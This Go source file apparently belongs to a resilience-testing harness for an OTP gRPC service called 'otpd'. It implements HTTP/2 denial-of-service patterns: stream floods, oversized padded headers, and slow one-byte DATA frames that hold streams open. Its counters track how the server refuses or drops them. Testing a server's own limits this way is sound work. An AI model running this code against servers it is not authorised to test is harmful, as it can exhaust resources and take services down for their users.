package main

import (
	"bufio"
	"bytes"
	"context"
	"encoding/binary"
	"net"
	"strings"
	"sync"
	"sync/atomic"
	"time"

	"golang.org/x/net/http2"
	"golang.org/x/net/http2/hpack"
)

// h2 is a raw HTTP/2 client connection.
type h2 struct {
	conn net.Conn
	bw   *bufio.Writer
	fr   *http2.Framer
	mu   sync.Mutex
	next uint32
	gone chan struct{}
	// ended counts streams otpd ended (trailers or RST_STREAM).
	ended atomic.Int64
}

func dialH2(ctx context.Context, t *target, s *attackStats) (*h2, error) {
	c, err := dialFrom(ctx, s.from, t.grpc)
	if err != nil {
		return nil, err
	}
	s.conns.Add(1)
	h := &h2{conn: c, bw: bufio.NewWriterSize(c, 64<<10), next: 1, gone: make(chan struct{})}
	h.fr = http2.NewFramer(h.bw, c)
	_, _ = h.bw.WriteString(http2.ClientPreface)
	_ = h.fr.WriteSettings()
	_ = h.bw.Flush()
	go func() {
		defer close(h.gone)
		for {
			f, err := h.fr.ReadFrame()
			if err != nil {
				s.dropped.Add(1)
				return
			}
			switch f := f.(type) {
			case *http2.SettingsFrame:
				if !f.IsAck() {
					h.mu.Lock()
					_ = h.fr.WriteSettingsAck()
					_ = h.bw.Flush()
					h.mu.Unlock()
				}
			case *http2.PingFrame:
				if !f.IsAck() {
					h.mu.Lock()
					_ = h.fr.WritePing(true, f.Data)
					_ = h.bw.Flush()
					h.mu.Unlock()
				}
			case *http2.RSTStreamFrame:
				h.ended.Add(1)
				if f.ErrCode == http2.ErrCodeRefusedStream {
					s.refused.Add(1)
				}
			case *http2.HeadersFrame:
				if f.StreamEnded() {
					h.ended.Add(1)
					// A trailers-only answer to a stream that sent no
					// message is a refusal (RESOURCE_EXHAUSTED) or the
					// first-message deadline.
					s.refused.Add(1)
				}
			}
		}
	}()
	go func() {
		select {
		case <-ctx.Done():
		case <-h.gone:
		}
		_ = c.Close()
	}()
	return h, nil
}

func (h *h2) closed() bool {
	select {
	case <-h.gone:
		return true
	default:
		return false
	}
}

// blocks caches header blocks: a block from a fresh HPACK encoder refers
// to no dynamic-table entry, so the same bytes are valid on every
// connection, and the attacker spends no CPU encoding them again.
var blocks sync.Map

func headerBlock(project string, extra ...string) []byte {
	key := project + "\x00" + strings.Join(extra, "\x00")
	if b, ok := blocks.Load(key); ok {
		return b.([]byte)
	}
	var buf bytes.Buffer
	enc := hpack.NewEncoder(&buf)
	fields := append([]string{":method", "POST", ":scheme", "http", ":path", "/otp.v1.OtpEmail/SignUpOrIn", ":authority", "otpd",
		"content-type", "application/grpc", "te", "trailers", "authorization", "Bearer " + project}, extra...)
	for i := 0; i+1 < len(fields); i += 2 {
		_ = enc.WriteField(hpack.HeaderField{Name: fields[i], Value: fields[i+1]})
	}
	blocks.Store(key, buf.Bytes())
	return buf.Bytes()
}

// open writes a stream's headers (extra: more name, value pairs) without
// flushing; the caller flushes.
func (h *h2) open(project string, extra ...string) uint32 {
	id := h.next
	h.next += 2
	block := headerBlock(project, extra...)
	const max = 16 << 10
	first := block[:min(len(block), max)]
	_ = h.fr.WriteHeaders(http2.HeadersFrameParam{StreamID: id, BlockFragment: first, EndHeaders: len(block) <= max})
	for rest := block[len(first):]; len(rest) > 0; {
		n := min(len(rest), max)
		_ = h.fr.WriteContinuation(id, n == len(rest), rest[:n])
		rest = rest[n:]
	}
	return id
}

func (h *h2) flush() error {
	_ = h.conn.SetWriteDeadline(time.Now().Add(5 * time.Second))
	return h.bw.Flush()
}

func msgHeader(n int) []byte {
	b := make([]byte, 5)
	binary.BigEndian.PutUint32(b[1:], uint32(n))
	return b
}

// streamOpener keeps 100 header-only (or header-heavy) streams open on
// each of 16 connections, opening as many as otpd ended every 200 ms.
func streamOpener(ctx context.Context, t *target, s *attackStats, extra ...string) {
	repeat(ctx, 16, func() {
		h, err := dialH2(ctx, t, s)
		if err != nil {
			return
		}
		open := int64(0)
		for ctx.Err() == nil && !h.closed() {
			h.mu.Lock()
			for ; open-h.ended.Load() < 100; open++ {
				h.open(t.project, extra...)
				s.sent.Add(1)
			}
			err := h.flush()
			h.mu.Unlock()
			if err != nil {
				return
			}
			select {
			case <-ctx.Done():
			case <-h.gone:
			case <-time.After(200 * time.Millisecond):
			}
		}
	})
}

func streamFlood(ctx context.Context, t *target, s *attackStats) { streamOpener(ctx, t, s) }

func grpcHeaders(ctx context.Context, t *target, s *attackStats) {
	streamOpener(ctx, t, s, "x-pad", strings.Repeat("h", 30<<10))
}

func tinyFrames(ctx context.Context, t *target, s *attackStats) {
	one := []byte{1}
	repeat(ctx, 16, func() {
		h, err := dialH2(ctx, t, s)
		if err != nil {
			return
		}
		var ids []uint32
		h.mu.Lock()
		for range 100 {
			id := h.open(t.project)
			_ = h.fr.WriteData(id, false, msgHeader(60000))
			ids = append(ids, id)
			s.sent.Add(1)
		}
		h.mu.Unlock()
		// 1,000 one-byte frames every 50 ms per connection, round robin
		// over the streams.
		for i := 0; ctx.Err() == nil && !h.closed(); {
			h.mu.Lock()
			for range 1000 {
				_ = h.fr.WriteData(ids[i%len(ids)], false, one)
				i++
			}
			err := h.flush()
			h.mu.Unlock()
			if err != nil {
				return
			}
			select {
			case <-ctx.Done():
			case <-h.gone:
			case <-time.After(50 * time.Millisecond):
			}
		}
	})
}
